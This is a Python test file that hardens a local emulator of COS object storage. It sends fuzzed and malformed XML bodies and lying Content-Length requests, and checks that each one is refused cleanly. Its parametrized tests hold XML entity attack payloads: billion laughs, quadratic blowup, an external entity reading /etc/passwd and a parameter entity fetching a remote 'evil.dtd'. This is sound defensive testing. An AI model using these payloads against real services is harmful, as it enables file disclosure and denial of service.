"""Hostile bodies to localcloud over real sockets: XML documents (incl. entity bombs and oversized ones) for CORS rules
and multipart completion, and bodies that are longer or shorter than they say.

Every answer must be a real status below 500, and every error COS's XML document with `x-cos-request-id`; a body
that did not arrive whole must never become an object.
"""

from __future__ import annotations

import base64
import hashlib
import socket
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from localcloud.config import DEFAULT_SECRET_ID, DEFAULT_SECRET_KEY
from qcloud.cos_signature import make_authorization
from tests.hardening.localcloud_client import (
    BUCKET,
    FUZZ,
    REGION,
    Cloud,
    assert_cos,
    start_cloud,
    upload_id,
)


@pytest.fixture(scope="module")
def cloud(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cloud]:
    cloud = start_cloud(tmp_path_factory, "hostile-bodies", b"0123456789" * 10)
    yield cloud
    cloud.server.stop()


# ------------------------------------------------------------------------------------------------------- XML bodies


XML_TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="<>&\x00"), max_size=30)
PART = st.builds(
    lambda number, etag: f"<Part><PartNumber>{number}</PartNumber><ETag>{etag}</ETag></Part>",
    st.one_of(st.integers(-5, 20000).map(str), XML_TEXT),
    XML_TEXT,
)
COMPLETE_BODIES = st.one_of(
    st.binary(max_size=300),
    st.lists(PART, max_size=6).map(
        lambda parts: f"<CompleteMultipartUpload>{''.join(parts)}</CompleteMultipartUpload>"
    ),
    st.builds(lambda tag, inner: f"<{tag}>{inner}</{tag}>", st.sampled_from(["Complete", "Part", "a"]), XML_TEXT),
)


@FUZZ
@given(body=COMPLETE_BODIES)
def test_it_answers_any_complete_multipart_body_in_cos_form(cloud: Cloud, body: str | bytes) -> None:
    data = body.encode("utf-8") if isinstance(body, str) else body
    key = "multipart/fuzz.bin"
    started = upload_id(cloud, key)
    answer = cloud.request("POST", key, params={"uploadId": started}, body=data)
    code = assert_cos(answer, 400, 404)
    assert code in {"MalformedXML", "InvalidPart", "InvalidPartOrder", "EntityTooSmall", "InvalidArgument"}, code
    cloud.request("DELETE", key, params={"uploadId": started})


CORS_RULE = st.builds(
    lambda origin, method, header, age: (
        f"<CORSRule><AllowedOrigin>{origin}</AllowedOrigin><AllowedMethod>{method}</AllowedMethod>"
        f"<AllowedHeader>{header}</AllowedHeader><MaxAgeSeconds>{age}</MaxAgeSeconds></CORSRule>"
    ),
    XML_TEXT,
    st.one_of(st.sampled_from(["GET", "PUT", "get", "TRACE", ""]), XML_TEXT),
    XML_TEXT,
    st.one_of(st.integers(-1, 10**6).map(str), XML_TEXT),
)
CORS_BODIES = st.one_of(
    st.binary(max_size=300),
    st.lists(CORS_RULE, max_size=4).map(lambda rules: f"<CORSConfiguration>{''.join(rules)}</CORSConfiguration>"),
)


@FUZZ
@given(body=CORS_BODIES)
def test_it_answers_any_cors_body_in_cos_form_and_keeps_a_readable_rule(cloud: Cloud, body: str | bytes) -> None:
    data = body.encode("utf-8") if isinstance(body, str) else body
    answer = cloud.request("PUT", "", params={"cors": ""}, body=data)
    assert_cos(answer, 200, 400)
    # Whatever was stored can be read back as a document.
    stored = cloud.request("GET", "", params={"cors": ""})
    assert_cos(stored, 200, 404)
    if stored.status == 200:
        ET.fromstring(stored.body)  # noqa: S314 - localcloud's own answer


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
    + "]><CORSConfiguration><CORSRule><AllowedOrigin>&lol9;</AllowedOrigin>"
    "<AllowedMethod>GET</AllowedMethod></CORSRule></CORSConfiguration>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    "<CORSConfiguration><CORSRule><AllowedOrigin>&secret;</AllowedOrigin>"
    "<AllowedMethod>GET</AllowedMethod></CORSRule></CORSConfiguration>"
)
QUADRATIC = (
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"A" * 50000}">]>'
    f"<CORSConfiguration><CORSRule><AllowedOrigin>{'&a;' * 2000}</AllowedOrigin>"
    "<AllowedMethod>GET</AllowedMethod></CORSRule></CORSConfiguration>"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd"> %remote;]>'
    "<CORSConfiguration/>"
)


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        QUADRATIC,
        PARAMETER_ENTITY,
        BILLION_LAUGHS.lower().replace("doctype", "DocType"),
    ],
    ids=["billion-laughs", "external-entity", "quadratic-blowup", "parameter-entity", "mixed-case-doctype"],
)
@pytest.mark.parametrize("target", ["cors", "complete"])
def test_it_refuses_xml_entity_attacks(cloud: Cloud, document: str, target: str) -> None:
    started = time.perf_counter()
    if target == "cors":
        answer = cloud.request("PUT", "", params={"cors": ""}, body=document.encode())
    else:
        key = "multipart/bomb.bin"
        answer = cloud.request("POST", key, params={"uploadId": upload_id(cloud, key)}, body=document.encode())
    assert time.perf_counter() - started < 5
    assert assert_cos(answer, 400) == "MalformedXML"
    stored = cloud.request("GET", "", params={"cors": ""})
    assert b"root:" not in stored.body
    assert b"lollollol" not in stored.body


def test_it_refuses_xml_bodies_over_four_megabytes(cloud: Cloud) -> None:
    body = b"<CORSConfiguration>" + b" " * (5 * 1024 * 1024) + b"</CORSConfiguration>"
    assert assert_cos(cloud.request("PUT", "", params={"cors": ""}, body=body), 400) == "EntityTooLarge"


# -------------------------------------------------------------------------------------------- lying Content-Length


def _raw_exchange(cloud: Cloud, request: bytes, *, close_early: bool = False) -> bytes:
    with socket.create_connection((cloud.server.host, cloud.server.port), timeout=10) as sock:
        sock.sendall(request)
        if close_early:
            sock.shutdown(socket.SHUT_RDWR)
            return b""
        sock.shutdown(socket.SHUT_WR)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
        return b"".join(chunks)


def _put_head(key: str, length: int, extra: str = "") -> bytes:
    auth = make_authorization(
        DEFAULT_SECRET_ID, DEFAULT_SECRET_KEY, "PUT", key, headers={"host": f"{BUCKET}.cos.{REGION}.localhost"}
    )
    return (
        f"PUT /cos/{REGION}/{BUCKET}/{quote(key)} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: {auth}\r\n"
        f"Content-Length: {length}\r\n{extra}\r\n"
    ).encode()


def test_it_stores_exactly_content_length_bytes_and_never_the_extra(cloud: Cloud) -> None:
    key = "lying/longer.txt"
    body, extra = b"A" * 10, b"B" * 10
    answers = _raw_exchange(cloud, _put_head(key, len(body)) + body + extra)
    assert answers.startswith(b"HTTP/1.1 200"), answers[:300]
    assert cloud.request("GET", key).body == body
    listing = cloud.request("GET", "", params={"prefix": "lying/"})
    assert b"BBBB" not in listing.body
    assert listing.body.count(b"<Key>") == 1


def test_it_refuses_a_body_longer_than_its_content_md5_says(cloud: Cloud) -> None:
    key = "lying/md5.txt"
    body, extra = b"A" * 10, b"B" * 10
    md5 = base64.b64encode(hashlib.md5(body + extra).digest()).decode()  # noqa: S324 - the protocol's Content-MD5
    answers = _raw_exchange(cloud, _put_head(key, len(body), f"Content-MD5: {md5}\r\n") + body + extra)
    assert answers.startswith(b"HTTP/1.1 400"), answers[:300]
    assert b"<Code>BadDigest</Code>" in answers
    assert cloud.request("HEAD", key).status == 404


@pytest.mark.parametrize("sent", [0, 1, 4096, 65536])
def test_it_never_turns_a_truncated_body_into_an_object(cloud: Cloud, sent: int) -> None:
    key = f"lying/truncated-{sent}.bin"
    assert cloud.request("PUT", key, body=b"old and whole").status == 200
    _raw_exchange(cloud, _put_head(key, 1024 * 1024) + b"N" * sent, close_early=True)
    time.sleep(0.5)  # the server notices the closed connection; nothing here is a clock we could travel
    assert cloud.request("GET", key).body == b"old and whole"
    fresh = f"lying/never-{sent}.bin"
    _raw_exchange(cloud, _put_head(fresh, 1024 * 1024) + b"N" * sent, close_early=True)
    time.sleep(0.5)
    assert cloud.request("HEAD", fresh).status == 404
    assert not list((cloud.data / "cos" / "tmp").iterdir())


@pytest.mark.parametrize("value", ["-1", "abc", "1e3", " 12", "99999999999999999999999", "0x10"])
def test_it_answers_a_nonsense_content_length_with_a_client_error(cloud: Cloud, value: str) -> None:
    raw = _put_head("lying/nonsense.txt", 0).replace(b"Content-Length: 0", f"Content-Length: {value}".encode())
    answers = _raw_exchange(cloud, raw + b"abc")
    # A client error, or (when the value still reads as a length longer than what came) the connection is closed.
    if answers:
        status = int(answers.split(b" ", 2)[1])
        assert 200 <= status < 500, answers[:300]
    stored = cloud.request("GET", "lying/nonsense.txt")
    assert stored.status == 404 or stored.body in {b"", b"abc"}
